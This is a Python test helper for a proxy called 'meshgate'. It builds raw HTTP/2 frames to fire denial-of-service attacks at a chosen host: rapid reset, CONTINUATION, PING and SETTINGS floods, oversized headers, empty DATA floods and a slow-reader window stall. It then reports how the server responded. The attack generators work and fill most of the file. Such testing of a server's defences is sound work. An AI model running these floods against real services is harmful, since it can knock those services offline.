#!/usr/bin/python3
"""HTTP/2 attacks against a real proxy, for the meshgate e2e tests.

Usage: h2_attack.py HOST PORT ATTACK [AUTHORITY]
ATTACK: rapid_reset | continuation | ping_flood | settings_flood |
        oversized_headers | empty_data
Also: "normal" (five well-behaved GETs on one connection), "drain" (one
slow request that must survive the server's graceful GOAWAY) and
"slow_reader PATH SECONDS" (a GET whose response it never makes room for:
initial stream window 1 byte and no WINDOW_UPDATE, held open SECONDS).

Sends the attack on one connection (h2 for the ordinary parts, hand-built
frames where h2 would refuse to misbehave) while reading what the server
answers, and prints one JSON line:
  {"attack": ..., "goaway": <error code or null>, "closed": <bool>,
   "bytes_sent": N, "responses": N}
"closed" means the server ended the connection (EOF or reset) within the
deadline. Exit status 0 whenever the script itself worked.
"""
import json
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import hpack

DEADLINE_SECONDS = 10
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def request_block(encoder, authority, extra=()):
    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/"),
              (":authority", authority)] + list(extra)
    return encoder.encode(fields)


class Reader(threading.Thread):
    """Reads server frames until EOF/reset, noting GOAWAY and responses."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.goaway = None
        self.closed = False
        self.responses = 0
        self.buf = b""

    def run(self):
        while True:
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return
            except OSError:
                self.closed = True
                self._parse()
                return
            if not data:
                self.closed = True
                self._parse()
                return
            self.buf += data
            self._parse()

    def _parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype = self.buf[3]
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == 0x7 and len(payload) >= 8:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif ftype == 0x1:
                self.responses += 1


def send_all(sock, chunks):
    sent = 0
    try:
        for c in chunks:
            sock.sendall(c)
            sent += len(c)
    except OSError:
        pass  # the server gave up on us: expected
    return sent


def attack_chunks(name, authority):
    enc = hpack.Encoder()
    settings = frame(0x4, 0, 0)
    yield PREFACE + settings
    if name == "rapid_reset":
        for i in range(5000):
            sid = 2 * i + 1
            yield frame(0x1, 0x5, sid, request_block(enc, authority)) + \
                frame(0x3, 0, sid, struct.pack(">I", 8))
    elif name == "continuation":
        yield frame(0x1, 0x0, 1, request_block(enc, authority))
        for i in range(20000):
            yield frame(0x9, 0x0, 1, enc.encode([("x-c%d" % i, "v")]))
    elif name == "ping_flood":
        for i in range(200000):
            yield frame(0x6, 0, 0, struct.pack(">Q", i))
    elif name == "settings_flood":
        for _ in range(200000):
            yield frame(0x4, 0, 0)
    elif name == "oversized_headers":
        extra = [("x-big-%d" % i, "v" * 1000) for i in range(100)]
        block = request_block(enc, authority, extra)
        pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        for i, p in enumerate(pieces):
            last = i == len(pieces) - 1
            flags = 0x4 if last else 0
            if i == 0:
                yield frame(0x1, flags | 0x1, 1, p)
            else:
                yield frame(0x9, flags, 1, p)
    elif name == "empty_data":
        yield frame(0x1, 0x4, 1, request_block(enc, authority))
        for _ in range(100000):
            yield frame(0x0, 0, 1)
    else:
        raise SystemExit("unknown attack " + name)


def batched(chunks, size=64 * 1024):
    buf = bytearray()
    for c in chunks:
        buf += c
        if len(buf) >= size:
            yield bytes(buf)
            buf.clear()
    if buf:
        yield bytes(buf)


def main():
    host, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    authority = sys.argv[4] if len(sys.argv) > 4 else "demo.example.com"
    # Let h2 validate that the server speaks HTTP/2 at all.
    sock = socket.create_connection((host, port), timeout=DEADLINE_SECONDS)
    reader = Reader(sock)
    reader.start()
    sent = send_all(sock, batched(attack_chunks(name, authority)))
    reader.join(DEADLINE_SECONDS)
    print(json.dumps({"attack": name, "goaway": reader.goaway, "closed": reader.closed,
                      "bytes_sent": sent, "responses": reader.responses}))
    sock.close()


def well_behaved(host, port, authority, streams):
    """A normal h2 client: `streams` GETs on one connection; prints statuses."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock = socket.create_connection((host, port), timeout=DEADLINE_SECONDS)
    sock.sendall(conn.data_to_send())
    for i in range(streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"),
                                (":path", "/h2/%d" % i), (":authority", authority)],
                          end_stream=True)
    sock.sendall(conn.data_to_send())
    statuses, done = [], 0
    deadline = time.time() + DEADLINE_SECONDS
    while done < streams and time.time() < deadline:
        data = sock.recv(65536)
        if not data:
            break
        for ev in conn.receive_data(data):
            if ev.__class__.__name__ == "ResponseReceived":
                statuses.append(int(dict(ev.headers)[b":status"]))
            elif ev.__class__.__name__ == "StreamEnded":
                done += 1
            elif ev.__class__.__name__ == "DataReceived":
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        sock.sendall(conn.data_to_send())
    print(json.dumps({"statuses": statuses}))


def drain_witness(host, port, authority):
    """Starts one slow request, says "sent", then reports what the server did:
    a graceful GOAWAY (code, last stream) and whether the request still ended.
    Frames are read by hand: a client state machine would stop at the GOAWAY."""
    enc, dec = hpack.Encoder(), hpack.Decoder()
    sock = socket.create_connection((host, port), timeout=DEADLINE_SECONDS)
    block = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/slow"),
                        (":authority", authority)])
    sock.sendall(PREFACE + frame(0x4, 0, 0) + frame(0x1, 0x5, 1, block))
    print("sent", flush=True)
    result = {"goaway": None, "last_stream": None, "status": None, "ended": False,
              "closed": False, "goaway_before_end": False}
    buf = b""
    deadline = time.time() + DEADLINE_SECONDS
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except OSError:
            data = b""
        if not data:
            result["closed"] = True
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = buf[9:9 + length]
            buf = buf[9 + length:]
            if ftype == 0x4 and not flags & 0x1:
                sock.sendall(frame(0x4, 0x1, 0))
            elif ftype == 0x7:
                result["last_stream"] = struct.unpack(">I", payload[0:4])[0] & 0x7FFFFFFF
                result["goaway"] = struct.unpack(">I", payload[4:8])[0]
                result["goaway_before_end"] = not result["ended"]
            elif ftype == 0x1 and stream == 1:
                result["status"] = int(dict(dec.decode(payload)).get(":status", "0"))
                result["ended"] = result["ended"] or bool(flags & 0x1)
            elif ftype == 0x0 and stream == 1 and flags & 0x1:
                result["ended"] = True
    print(json.dumps(result), flush=True)


def slow_reader(host, port, authority, path, seconds):
    """Asks for `path` and never opens its window: the server may send one
    byte of the body. Prints "sent", then, after `seconds`, what it got."""
    enc = hpack.Encoder()
    sock = socket.create_connection((host, port), timeout=DEADLINE_SECONDS)
    # SETTINGS_INITIAL_WINDOW_SIZE (0x4) = 1; the connection window stays at
    # its initial 65535 and is never replenished either.
    settings = frame(0x4, 0, 0, struct.pack(">HI", 0x4, 1))
    block = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                        (":authority", authority)])
    sock.sendall(PREFACE + settings + frame(0x1, 0x5, 1, block))
    print("sent", flush=True)
    received, goaway, closed = 0, None, False
    buf = b""
    sock.settimeout(0.2)
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            data = b""
        if not data:
            closed = True
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            payload = buf[9:9 + length]
            buf = buf[9 + length:]
            if ftype == 0x4 and not flags & 0x1:
                sock.sendall(frame(0x4, 0x1, 0))  # SETTINGS ACK, nothing else
            elif ftype == 0x0:
                received += length
            elif ftype == 0x7:
                goaway = struct.unpack(">I", payload[4:8])[0]
    print(json.dumps({"received": received, "goaway": goaway, "closed": closed}), flush=True)
    sock.close()


if __name__ == "__main__":
    if len(sys.argv) > 5 and sys.argv[3] == "slow_reader":
        slow_reader(sys.argv[1], int(sys.argv[2]), "demo.example.com", sys.argv[4],
                    float(sys.argv[5]))
    elif len(sys.argv) > 3 and sys.argv[3] == "normal":
        well_behaved(sys.argv[1], int(sys.argv[2]),
                     sys.argv[4] if len(sys.argv) > 4 else "demo.example.com", 5)
    elif len(sys.argv) > 3 and sys.argv[3] == "drain":
        drain_witness(sys.argv[1], int(sys.argv[2]),
                      sys.argv[4] if len(sys.argv) > 4 else "demo.example.com")
    else:
        main()
